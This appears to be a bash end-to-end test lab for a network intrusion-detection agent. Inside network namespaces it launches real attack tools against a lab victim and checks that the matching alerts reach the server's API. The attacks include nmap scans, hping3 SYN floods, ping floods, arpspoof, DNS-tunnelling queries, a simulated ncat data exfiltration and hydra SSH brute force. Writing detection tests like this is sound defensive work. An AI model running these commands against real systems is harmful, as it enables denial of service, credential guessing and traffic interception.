#!/usr/bin/env bash
# End-to-end attack lab: real attack tools between network namespaces against a live
# sentinel-agent, with alerts checked through sentinel-server's API.
# Usage: tests/e2e/lab.sh BIN_DIR [WORK_DIR]
# Exit codes: 0 all scenarios seen, 1 a scenario failed, 77 skipped (namespaces not permitted).
set -uo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
bin=${1:?usage: lab.sh BIN_DIR [WORK_DIR]}
bin=$(cd "$bin" && pwd)
work=${2:-$(mktemp -d /tmp/sentinel-lab.XXXXXX)}
mkdir -p "$work"
source "$here/netns.sh"

if ! lab_supported; then
  echo "SKIPPED: network namespaces are not permitted here (need root and ip netns)"
  exit 77
fi
for tool in nmap hping3 hydra arpspoof dig ncat sshd dnsmasq curl python3; do
  command -v "$tool" >/dev/null || { echo "FAILED: missing tool $tool (run scripts/bootstrap.sh build test)"; exit 1; }
done

server_ip=10.231.2.10 victim=10.231.1.10 attacker=203.0.113.10 bad_actor=203.0.113.66
outage_scanner=203.0.113.77
gateway=10.231.1.1 mitm=10.231.1.66 web=203.0.113.20 dns=203.0.113.53
admin_password=lab-admin-password
lab_started=$(date +%s)
declare -a rows=()
failures=0

cleanup() {
  lab_down
  [ -n "${KEEP_LAB:-}" ] || rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

log() { printf '[lab %3ds] %s\n' $(( $(date +%s) - lab_started )) "$*"; }

# --- PKI, config -----------------------------------------------------------------------------
"$bin/sentinel-certs" --out-dir "$work/pki" --host "$server_ip" >"$work/certs.log" 2>&1 || {
  cat "$work/certs.log"; echo "FAILED: sentinel-certs"; exit 1; }
python3 - "$work" <<'PY'
import json, sys, os
work = sys.argv[1]
cfg = json.load(open(f"{work}/pki/sentinel_config.json"))
cfg["data_dir"] = f"{work}/data"
cfg["agent_offline_after"] = 90
cfg["heartbeat_interval"] = 5  # suppression rule changes reach the agent with the heartbeat
cfg["virustotal_api_key"] = "lab-vt-key"
cfg["virustotal_base_url"] = "https://10.231.2.10:9443/api/v3"
cfg["vt_requests_per_minute"] = 600
cfg["virustotal_ca_file"] = f"{work}/pki/certs/ca.crt"
json.dump(cfg, open(f"{work}/pki/sentinel_config.json", "w"), indent=2)
os.chmod(f"{work}/pki/sentinel_config.json", 0o600)
PY

# --- hosts and services ---------------------------------------------------------------------
lab_up
log "network up: lan $victim, attacker $attacker/$bad_actor, server $server_ip"

start_server() {
  in_ns srv env SENTINEL_ADMIN_PASSWORD="$admin_password" \
    "$bin/sentinel-server" --config "$work/pki/sentinel_config.json" >>"$work/server.log" 2>&1 &
  server_pid=$!
  for _ in $(seq 1 100); do
    in_ns srv curl -s -o /dev/null --cacert "$work/pki/certs/ca.crt" "https://$server_ip:8443/" && return 0
    sleep 0.1
  done
  echo "FAILED: server did not start"; tail -20 "$work/server.log"; exit 1
}
start_server

# VirusTotal stand-in on the server host: 203.0.113.66 is known-bad (CRITICAL tier); every
# other address is unknown (404, clean).
echo "{\"responses\": {\"ip_addresses/$bad_actor\": [{\"status\": 200, \"malicious\": 12}]}}" >"$work/vt_script.json"
in_ns srv python3 "$root/tests/virustotal/vt_stub.py" --cert "$work/pki/certs/server.crt" \
  --key "$work/pki/certs/server.key" --bind "$server_ip" --port 9443 --script "$work/vt_script.json" \
  --log "$work/vt_requests.log" --port-file "$work/vt.port" >"$work/vt.log" 2>&1 &

# Lab services: web server + sink + DNS on ext, sshd on the victim.
mkdir -p "$work/www"; head -c 200000 /dev/urandom >"$work/www/page.bin"
in_ns ext python3 -m http.server 8000 --bind "$web" --directory "$work/www" >/dev/null 2>&1 &
in_ns ext sh -c "while true; do ncat -l $web 9000 >/dev/null; done" >/dev/null 2>&1 &
in_ns ext dnsmasq --no-daemon --no-resolv --no-hosts --listen-address="$dns" --bind-interfaces \
  --address=/lab.example/203.0.113.20 --log-facility=/dev/null >/dev/null 2>&1 &
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh_host_key" <<<y >/dev/null 2>&1
mkdir -p /run/sshd
in_ns lan /usr/sbin/sshd -f /dev/null -h "$work/ssh_host_key" -o ListenAddress=$victim \
  -o MaxAuthTries=1 -o MaxStartups=100:30:200 -o PidFile="$work/sshd.pid" -o UsePAM=no
in_ns lan sh -c "while true; do ncat -l $victim 4444 >/dev/null; done" >/dev/null 2>&1 &

# --- agent ---------------------------------------------------------------------------------
in_ns lan "$bin/sentinel-agent" --config "$work/pki/sentinel_config.json" --iface eth0 \
  --server "https://$server_ip:8444" --state-dir "$work/agent-state" --quiet >"$work/agent.log" 2>&1 &
agent_pid=$!
sleep 2

# Benign traffic for the whole run: page downloads and DNS lookups from the monitored host.
in_ns lan sh -c "while true; do curl -s -o /dev/null http://$web:8000/page.bin; \
  dig +short +tries=1 +time=1 @$dns www.lab.example >/dev/null; sleep 0.5; done" >/dev/null 2>&1 &
benign_pid=$!
# The victim learns the real gateway MAC before the MITM starts (arpwatch-style baseline).
in_ns lan ip neigh flush all
in_ns lan ping -c 2 -W 1 "$gateway" >/dev/null

# --- API helpers ---------------------------------------------------------------------------
cookies="$work/cookies.txt"
api() {  # api PATH → JSON on stdout
  in_ns srv curl -s --cacert "$work/pki/certs/ca.crt" -b "$cookies" -c "$cookies" "https://$server_ip:8443$1"
}
login() {
  in_ns srv curl -s --cacert "$work/pki/certs/ca.crt" -c "$cookies" -H 'Content-Type: application/json' \
    -d "{\"username\":\"admin\",\"password\":\"$admin_password\"}" "https://$server_ip:8443/api/login" >/dev/null
}
login

# count_alerts CATEGORY SRC [LEVEL] → number of stored alerts
count_alerts() {
  local q="category=$(python3 -c 'import urllib.parse,sys;print(urllib.parse.quote(sys.argv[1]))' "$1")&src=$2&limit=1000"
  [ -n "${3:-}" ] && q="$q&level=$3"
  api "/api/alerts?$q" | python3 -c 'import json,sys
try: print(len(json.load(sys.stdin)["alerts"]))
except Exception: print(0)'
}

# expect NAME CATEGORY SRC DEADLINE_S [LEVEL]: waits for the alert and records a table row.
expect() {
  local name=$1 category=$2 src=$3 deadline=$4 level=${5:-} start now n
  start=$(date +%s.%N)
  while :; do
    n=$(count_alerts "$category" "$src" "$level")
    now=$(date +%s.%N)
    if [ "$n" -gt 0 ]; then
      rows+=("$name|$category from $src${level:+ ($level)}|yes|$(printf '%.1fs' "$(echo "$now - $start" | bc)")")
      log "$name: seen"
      return 0
    fi
    if [ "$(echo "$now - $start > $deadline" | bc)" = 1 ]; then
      rows+=("$name|$category from $src${level:+ ($level)}|NO|>${deadline}s")
      log "$name: NOT seen within ${deadline}s"
      failures=$((failures + 1))
      return 1
    fi
    sleep 0.3
  done
}

# --- benign phase: nothing may fire ---------------------------------------------------------
log "benign phase: 20 s of downloads and DNS lookups only"
sleep 20
benign_only=$(api "/api/alerts?limit=1000" | python3 -c 'import json,sys
print(len(json.load(sys.stdin)["alerts"]))')
if [ "$benign_only" = 0 ]; then rows+=("benign phase|no alert at all during 20 s of benign traffic|yes (none)|-"); else
  rows+=("benign phase|no alert at all during 20 s of benign traffic|NO ($benign_only alerts)|-"); failures=$((failures + 1)); fi

# --- scenarios -----------------------------------------------------------------------------
log "port scan: nmap -sS"
in_ns atk nmap -sS -n -Pn -T4 --max-retries 0 -p 1-1000 "$victim" >/dev/null 2>&1
expect "port scan" "PORT SCAN" "$attacker" 20

log "SYN flood: hping3 -S"
in_ns atk hping3 -S -p 80 -i u2000 -c 600 "$victim" >/dev/null 2>&1
expect "SYN flood" "SYN FLOOD" "$attacker" 20

log "ICMP flood: ping -f"
in_ns atk ping -f -c 400 "$victim" >/dev/null 2>&1
expect "ICMP flood" "ICMP FLOOD" "$attacker" 20

log "suspicious port: ncat to 4444"
in_ns atk sh -c "echo hello | ncat -w 2 $victim 4444" >/dev/null 2>&1
expect "suspicious port" "SUSPICIOUS PORT" "$attacker:4444" 20

log "ARP spoofing: arpspoof"
in_ns mitm timeout 6 arpspoof -i eth0 -t "$victim" "$gateway" >/dev/null 2>&1
expect "ARP spoofing" "ARP SPOOFING" "$gateway" 20

log "DNS tunnelling: long-label queries with dig"
for i in $(seq 1 20); do
  label=$(head -c 60 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | head -c 60)
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "$label.t$i.tunnel.lab.example" TXT >/dev/null 2>&1
done
expect "DNS tunnelling" "DNS TUNNELLING" "$victim" 20

log "exfiltration: 6 MB upload from the monitored host"
head -c 6500000 /dev/urandom >"$work/secret.bin"
in_ns lan ncat -w 5 --send-only "$web" 9000 <"$work/secret.bin" >/dev/null 2>&1
expect "exfiltration" "DATA EXFILTRATION" "$victim" 30

log "brute force: hydra against sshd"
printf '%s\n' $(seq -f "password%g" 1 300) >"$work/passwords.txt"
(cd "$work" && in_ns atk timeout 20 hydra -l tester -P "$work/passwords.txt" -t 48 -I "ssh://$victim" >/dev/null 2>&1)
expect "brute force" "BRUTE FORCE" "$attacker" 30

log "server outage: stop server for 30 s while a scan from a new source runs"
kill -TERM "$server_pid"; wait "$server_pid" 2>/dev/null
in_ns atk nmap -sS -n -Pn -T4 --max-retries 0 -p 2000-3000 -e eth0 -S "$outage_scanner" "$victim" >/dev/null 2>&1
sleep 30
start_server; login
expect "outage replay" "PORT SCAN" "$outage_scanner" 60
dupes=$(api "/api/alerts?limit=1000" | python3 -c 'import json,sys
ids=[a["id"] for a in json.load(sys.stdin)["alerts"]]; print(len(ids)-len(set(ids)))')
if [ "$dupes" = 0 ]; then rows+=("no duplicates|every alert stored once|yes|-"); else
  rows+=("no duplicates|every alert stored once|NO ($dupes dupes)|-"); failures=$((failures + 1)); fi

log "VirusTotal CRITICAL tier: 30 SYNs from a known-bad source"
in_ns atk ping -c 1 -W 1 -I "$bad_actor" "$victim" >/dev/null 2>&1
sleep 3
in_ns atk hping3 -S -p 81 -a "$bad_actor" -i u20000 -c 30 "$victim" >/dev/null 2>&1
expect "VT critical flood" "SYN FLOOD" "$bad_actor" 20 CRITICAL

# --- suppression: a rule added in the dashboard stops the agent's alerts of that kind ----------
npm_dir="$bin/../src/web/npm"
have_browser=0
[ -d "$npm_dir/node_modules/playwright-core" ] && [ -x /usr/bin/chromium ] && have_browser=1
browser() {  # browser SCRIPT ARGS... → runs a dashboard script in chromium on the server host
  in_ns srv env SENTINEL_WEB_NPM_DIR="$npm_dir" HOME="$work" node "$root/tests/web/$1" \
    "https://$server_ip:8443" admin "$admin_password" "${@:2}"
}
# rule_field ID FIELD → the rule's field from the API ("" when the rule is gone)
rule_field() {
  api /api/suppressions | python3 -c 'import json,sys
rules={str(r["id"]): r for r in json.load(sys.stdin)["rules"]}
print(rules.get(sys.argv[1], {}).get(sys.argv[2], ""))' "$1" "$2"
}
# wait_for SECONDS CMD... → polls CMD until it succeeds
wait_for() {
  local deadline=$(( $(date +%s) + $1 )); shift
  until "$@"; do [ "$(date +%s)" -ge "$deadline" ] && return 1; sleep 0.5; done
}
agent_hit_rule() { [ "$(rule_field "$rule_id" hits_agents)" -gt 0 ] 2>/dev/null; }
icmp_grew() { [ "$(count_alerts "ICMP FLOOD" "$attacker")" -gt "$icmp_before" ]; }
if [ "$have_browser" = 1 ]; then
  log "suppression: ICMP FLOOD from $attacker suppressed through the dashboard"
  icmp_before=$(count_alerts "ICMP FLOOD" "$attacker")
  if rule_id=$(browser lab_suppress.mjs add "ICMP FLOOD" "$attacker" "lab: suppression check" 2>>"$work/browser.log"); then
    sleep 12  # two heartbeats: the agent sees the new rules version and fetches the rules
    in_ns atk ping -f -c 400 "$victim" >/dev/null 2>&1
    suppressed_at=$(date +%s)
    wait_for 20 agent_hit_rule || true
    hits_agents=$(rule_field "$rule_id" hits_agents) hits_server=$(rule_field "$rule_id" hits_server)
    icmp_during=$(count_alerts "ICMP FLOOD" "$attacker")
    if [ "$icmp_during" = "$icmp_before" ] && [ "${hits_agents:-0}" -gt 0 ] && [ "${hits_server:-0}" = 0 ]; then
      rows+=("suppression on|rule from the dashboard stops ICMP FLOOD at the agent|yes ($hits_agents hit)|-")
    else
      rows+=("suppression on|rule from the dashboard stops ICMP FLOOD at the agent|NO (stored $icmp_before→$icmp_during, hits agents ${hits_agents:-?} server ${hits_server:-?})|-")
      failures=$((failures + 1))
    fi
    if browser lab_suppress.mjs delete "$rule_id" 2>>"$work/browser.log"; then
      # The agent's cooldown (15 s) also started with the suppressed alert; wait it out with the
      # rule change's two heartbeats.
      sleep $(( 17 - ($(date +%s) - suppressed_at) > 12 ? 17 - ($(date +%s) - suppressed_at) : 12 ))
      in_ns atk ping -f -c 400 "$victim" >/dev/null 2>&1
      if wait_for 20 icmp_grew; then
        rows+=("suppression off|removing the rule restores ICMP FLOOD|yes|-")
      else
        rows+=("suppression off|removing the rule restores ICMP FLOOD|NO|-"); failures=$((failures + 1))
      fi
    else
      rows+=("suppression off|rule deleted in the dashboard|NO (browser failed)|-"); failures=$((failures + 1))
    fi
  else
    rows+=("suppression on|rule added in the dashboard|NO (browser failed)|-"); failures=$((failures + 1))
  fi
else
  rows+=("suppression|rule added and removed in the dashboard|NOT RUN (no dashboard build or chromium)|-")
  failures=$((failures + 1))
fi

# Benign traffic must not have produced any alert with the monitored host's benign peers.
benign=$(api "/api/alerts?limit=1000" | python3 -c 'import json,sys
bad={"203.0.113.20","203.0.113.53"}
print(sum(1 for a in json.load(sys.stdin)["alerts"] if a["src"].split(":")[0] in bad))')
if [ "$benign" = 0 ]; then rows+=("benign traffic|no alert from web/DNS peers|yes (none)|-"); else
  rows+=("benign traffic|no alert from web/DNS peers|NO ($benign alerts)|-"); failures=$((failures + 1)); fi

if [ "$have_browser" = 1 ]; then
  log "dashboard: the scenario alerts in a real browser"
  if in_ns srv env SENTINEL_WEB_NPM_DIR="$npm_dir" HOME="$work" node "$root/tests/web/lab_check.mjs" \
      "https://$server_ip:8443" admin "$admin_password" "$work/dashboard.png" "PORT SCAN" "SYN FLOOD" \
      "ICMP FLOOD" "SUSPICIOUS PORT" "ARP SPOOFING" "DNS TUNNELLING" "DATA EXFILTRATION" \
      "BRUTE FORCE" >"$work/browser.log" 2>&1; then
    rows+=("dashboard|every scenario's alert in the Live Feed|yes|-")
  else
    rows+=("dashboard|every scenario's alert in the Live Feed|NO|-"); failures=$((failures + 1))
  fi
  cat "$work/browser.log"
  [ -n "${LAB_ARTIFACTS:-}" ] && mkdir -p "$LAB_ARTIFACTS" && cp "$work/dashboard.png" "$LAB_ARTIFACTS/" 2>/dev/null
else
  rows+=("dashboard|every scenario's alert in the Live Feed|NOT RUN (no dashboard build or chromium)|-")
  failures=$((failures + 1))
fi

# The agent reports what it costs its host: resident memory (bounded loosely here: this is a
# debug build with VirusTotal, TLS and the spool running; docs/benchmarks.md measures release
# builds), detector tables against their caps, and start-up.
footprint=$(api /api/agents | python3 -c 'import json,sys
a=json.load(sys.stdin)[0]
rss,state,cap,up=a.get("rss_bytes",0),a.get("state_bytes",0),a.get("state_cap_bytes",0),a.get("startup_ms")
ok=0<rss<=64e6 and a.get("peak_rss_bytes",0)>=0.95*rss and 0<state<cap and up is not None
print(("yes" if ok else "NO")+f" ({rss/1e6:.1f} MB, tables {state/1e6:.2f} MB, start-up {up} ms)")')
rows+=("agent footprint|heartbeat reports memory, tables and start-up|$footprint|-")
case $footprint in yes*) ;; *) failures=$((failures + 1)) ;; esac

kill "$benign_pid" 2>/dev/null
printf '\n%-20s %-56s %-14s %s\n' SCENARIO "EXPECTED ALERT" SEEN LATENCY
for row in "${rows[@]}"; do
  IFS='|' read -r a b c d <<<"$row"
  printf '%-20s %-56s %-14s %s\n' "$a" "$b" "$c" "$d"
done
log "lab finished with $failures failure(s)"
if [ "$failures" -gt 0 ]; then
  echo "--- agent log (tail)"; tail -30 "$work/agent.log"
  echo "--- server log (tail)"; tail -30 "$work/server.log"
  exit 1
fi
exit 0
